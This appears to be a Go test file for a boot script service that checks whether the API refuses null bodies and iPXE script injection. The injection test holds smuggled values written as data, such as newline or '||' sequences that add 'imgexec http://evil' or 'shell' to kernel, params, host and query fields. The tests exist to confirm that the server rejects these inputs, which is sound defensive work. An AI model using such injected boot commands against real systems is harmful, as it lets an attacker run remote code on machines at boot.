package bss

import (
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestNullBodyRefused: null is not {} on any body-taking endpoint, and changes nothing.
func TestNullBodyRefused(t *testing.T) {
	h := mustServer(t, Config{}).Handler()
	mustPut(t, h, `{"hosts":["`+n1+`"],"kernel":"k"}`)
	before := params(t, h)
	for _, m := range []string{http.MethodPut, http.MethodPost, http.MethodPatch, http.MethodDelete} {
		w := call(t, h, m, "/boot/v1/bootparameters", "null")
		require.Equal(t, http.StatusBadRequest, w.Code, "%s: %s", m, w.Body.String())
		assert.Contains(t, problemDetail(t, w), "request body is null", m)
	}
	w := call(t, h, http.MethodGet, "/boot/v1/bootparameters", "null")
	assert.Equal(t, http.StatusBadRequest, w.Code, "a null selection is not \"everything\": %s", w.Body.String())
	assert.Equal(t, before, params(t, h))
}

// TestScriptInjectionRefused: nothing that reaches iPXE text may add a line or a command.
func TestScriptInjectionRefused(t *testing.T) {
	h := mustServer(t, Config{}).Handler()
	mustPut(t, h, `{"hosts":["`+n1+`"],"kernel":"k","params":"console=ttyS0 ds=nocloud-net;s=http://x/"}`)
	before := params(t, h)
	for _, body := range []string{
		`{"hosts":["` + n1 + `"],"kernel":"http://k\nimgexec http://evil"}`,
		`{"hosts":["` + n1 + `"],"kernel":"http://k || imgexec http://evil"}`,
		`{"hosts":["` + n1 + `"],"kernel":"k","initrd":"i\r\nshell"}`,
		`{"hosts":["` + n1 + `"],"kernel":"k","params":"quiet\nimgexec http://evil"}`,
		`{"hosts":["` + n1 + `"],"kernel":"k","params":"quiet\u0000"}`,
		`{"hosts":["` + n1 + `"],"kernel":"k","params":"quiet || imgexec http://evil"}`,
		`{"hosts":["` + n1 + `"],"kernel":"k","params":"quiet ; shell"}`,
		`{"hosts":["x1\nimgexec"],"kernel":"k"}`,
	} {
		for _, m := range []string{http.MethodPut, http.MethodPost, http.MethodPatch} {
			w := call(t, h, m, "/boot/v1/bootparameters", body)
			require.Equal(t, http.StatusBadRequest, w.Code, "%s %q: %s", m, body, w.Body.String())
			assert.NotContains(t, w.Body.String(), "evil", "the reply must not echo the injected text")
		}
	}
	assert.Equal(t, before, params(t, h), "nothing stored")

	for _, q := range []string{"mac=aa%0Aimgexec%20http://evil", "mac=aa%20||%20imgexec%20http://evil",
		"name=x%0Dshell", "arch=x86%0Aimgexec", "mac=%00"} {
		w := call(t, h, http.MethodGet, "/boot/v1/bootscript?"+q, "")
		require.Equal(t, http.StatusBadRequest, w.Code, "%s: %s", q, w.Body.String())
		assert.False(t, strings.Contains(w.Body.String(), "evil"), w.Body.String())
	}
}
